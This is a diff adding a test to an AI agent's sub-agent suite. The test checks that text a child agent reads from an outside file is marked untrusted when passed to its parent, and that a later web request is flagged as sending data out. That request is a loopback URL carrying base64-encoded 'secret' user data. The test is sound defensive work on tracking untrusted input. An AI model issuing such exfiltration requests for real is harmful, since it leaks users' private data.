@@ -1,6 +1,7 @@
 // Children through the agent's own door: a real home, a real store, a model server on loopback.
 import assert from "node:assert/strict";
-import { readFile } from "node:fs/promises";
+import { readFile, writeFile } from "node:fs/promises";
+import { join } from "node:path";
 import { after, before, beforeEach, describe, type TestContext, test } from "node:test";
 import { play } from "../../../test/support/agent/agent-rig.ts";
 import { commandRig } from "../../../test/support/command-rig.ts";
@@ -55,6 +56,31 @@ describe("spawning children", () => {
     assert.match(told[0]?.id ?? "", /^sa-0-[0-9a-f]{8}$/);
     assert.deepEqual([told[0]?.depth, told[0]?.parentId, told[0]?.model], [1, null, "fake-model"]);
     assert.equal(rig.ctx.conversation.agent.activeChildren, 0);
+  });
+
+  test("a child that read a stranger's text hands that on to its parent, whose own it is asked about", async (t) => {
+    const rig = await open(t, "toolsets: [file, web, delegation]\n");
+    const { osHome } = rig.ctx.home;
+    const stranger = join(osHome, "stranger.md");
+    await writeFile(stranger, "a text of somebody else, which is longer than thirty-two characters");
+    const address = `http://127.0.0.1:9/?d=${"c2VjcmV0OiB3aGF0IHRoZSB1c2VyIHNhaWQ".repeat(2)}`;
+    const sent: string[] = [];
+    server.otherwise(async (request) => {
+      const { role, content } = newest(request);
+      if (role === "tool") sent.push(String(content));
+      if (role === "tool") return { text: "over" };
+      const goal = request.body.messages.findLast((message: { role: string }) => message.role === "user").content;
+      const call = (name: string, args: object) => ({ toolCalls: [{ name, arguments: args as never }] });
+      if (goal === "read it") return call("read_file", { path: stranger });
+      if (goal === "open it") return call("web_extract", { urls: [address] });
+      return call("delegate_task", { goal: goal === "start it" ? "read it" : "open it" });
+    });
+    const { agent } = rig.ctx.conversation;
+    await play(agent, "start it", { interactive: false });
+    assert.match(agent.foreignText.words ?? "", /^sub-agent: file .*stranger\.md$/);
+    assert.match(sent.at(-1) ?? "", /^<untrusted_tool_result source="delegate_task" /);
+    await play(agent, "and now the other", { interactive: false });
+    assert.match(sent.at(-2) ?? "", /after text from outside: sends data out.*stranger\.md/);
   });
 
   test("one child can be stopped while the others go on; a pause keeps new ones from starting", async (t) => {
